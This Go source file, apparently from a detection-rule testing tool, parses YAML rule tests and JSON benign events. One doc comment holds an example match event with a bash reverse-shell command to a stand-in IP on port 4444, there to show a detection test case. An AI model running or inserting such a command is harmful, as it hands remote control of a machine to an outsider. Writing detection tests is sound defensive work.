package bundle

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"strings"

	"go.yaml.in/yaml/v3"

	"github.com/holdfast-security/holdfast"
)

// Event is a test event as people write it: Sigma field names and values
// ("Image": "/bin/bash").
type Event map[string]string

// Case is the tests of one rule file: tests/x.yml belongs to rules/x.yml.
//
//	match:
//	  - Image: /bin/bash
//	    CommandLine: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
//	no_match:
//	  - Image: /bin/bash
//	    CommandLine: bash deploy.sh
type Case struct {
	Rule    string // path of the rule file
	File    string // path of this file
	Match   []Event
	NoMatch []Event
}

// maxCaseFile bounds one file of tests. A test file is written by a person.
const maxCaseFile = 1 << 20

// Cases returns every rule's tests, in the order of their files. A file that
// cannot be read as tests is an error that names it.
func (b *Bundle) Cases() ([]Case, error) {
	var cases []Case
	for _, p := range b.Paths("tests") {
		if len(b.Files[p]) > maxCaseFile {
			return nil, invalid(p, "longer than 1 MiB")
		}
		var file struct {
			Match   []yaml.Node `yaml:"match"`
			NoMatch []yaml.Node `yaml:"no_match"`
		}
		d := yaml.NewDecoder(bytes.NewReader(b.Files[p]))
		d.KnownFields(true)
		if err := d.Decode(&file); err != nil && !errors.Is(err, io.EOF) {
			return nil, invalid(p, strings.TrimPrefix(err.Error(), "yaml: "))
		}
		c := Case{File: p, Rule: "rules/" + strings.TrimPrefix(p, "tests/")}
		if _, ok := b.Files[c.Rule]; !ok {
			return nil, &holdfast.Error{Kind: holdfast.Invalid, What: "tests for " + c.Rule + ", which is not there", Where: p, Do: "give it the same path as its rule, below tests/"}
		}
		var err error
		if c.Match, err = events(p, file.Match); err != nil {
			return nil, err
		}
		if c.NoMatch, err = events(p, file.NoMatch); err != nil {
			return nil, err
		}
		cases = append(cases, c)
	}
	return cases, nil
}

func events(file string, nodes []yaml.Node) ([]Event, error) {
	var list []Event
	for _, n := range nodes {
		where := fmt.Sprintf("%s:%d", file, n.Line)
		if n.Kind != yaml.MappingNode {
			return nil, invalid(where, "not an event: write field names and values")
		}
		e := Event{}
		for i := 0; i+1 < len(n.Content); i += 2 {
			k, v := n.Content[i], n.Content[i+1]
			where := fmt.Sprintf("%s:%d", file, k.Line)
			if v.Kind != yaml.ScalarNode {
				return nil, invalid(where, k.Value+" needs one plain value")
			}
			if _, twice := e[k.Value]; twice {
				return nil, invalid(where, k.Value+" is given twice")
			}
			e[k.Value] = v.Value
		}
		list = append(list, e)
	}
	return list, nil
}

// Benign calls f with each benign event of the bundle, in order, until f
// returns an error.
func (b *Bundle) Benign(f func(file string, line int, e Event) error) error {
	for _, p := range b.Paths("benign") {
		s := bufio.NewScanner(bytes.NewReader(b.Files[p]))
		s.Buffer(nil, maxCaseFile)
		line := 0
		for s.Scan() {
			line++
			if len(bytes.TrimSpace(s.Bytes())) == 0 {
				continue
			}
			var raw map[string]any
			d := json.NewDecoder(bytes.NewReader(s.Bytes()))
			d.UseNumber()
			if err := d.Decode(&raw); err != nil {
				return invalid(fmt.Sprintf("%s:%d", p, line), err.Error())
			}
			e := Event{}
			for k, v := range raw {
				switch v := v.(type) {
				case string:
					e[k] = v
				case json.Number, bool:
					e[k] = fmt.Sprint(v)
				default:
					return invalid(fmt.Sprintf("%s:%d", p, line), k+" needs one plain value")
				}
			}
			if err := f(p, line, e); err != nil {
				return err
			}
		}
		if err := s.Err(); err != nil {
			return invalid(fmt.Sprintf("%s:%d", p, line+1), err.Error())
		}
	}
	return nil
}
